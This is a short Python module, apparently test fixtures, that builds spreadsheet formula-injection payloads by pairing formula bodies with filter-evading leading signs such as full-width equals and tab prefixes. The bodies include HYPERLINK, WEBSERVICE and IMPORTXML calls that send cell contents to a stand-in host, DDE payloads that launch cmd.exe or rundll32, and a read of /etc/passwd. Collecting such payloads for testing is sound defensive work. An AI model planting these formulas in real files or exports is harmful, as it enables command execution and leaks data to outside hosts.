"""Texts a spreadsheet would run, follow or send somewhere, were they ever more than text."""

from __future__ import annotations

BODIES = (
    "1+1",
    "SUM(A1:A9)",
    'HYPERLINK("http://example.invalid/?"&A1,"open")',
    'WEBSERVICE("http://example.invalid/"&A2)',
    'IMPORTXML(CONCAT("http://example.invalid/",A1),"//a")',
    'IMAGE("http://example.invalid/x.png")',
    "cmd|' /C calc'!A0",
    "MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
    "rundll32|'URL.dll,OpenURL calc.exe'!A",
    "'file:///etc/passwd'#$passwd.A1",
)
SIGNS = ("=", "+", "-", "@", "\t=", "\r=", "＝", " =")

FORMULAS = tuple(sign + body for body in BODIES for sign in SIGNS)
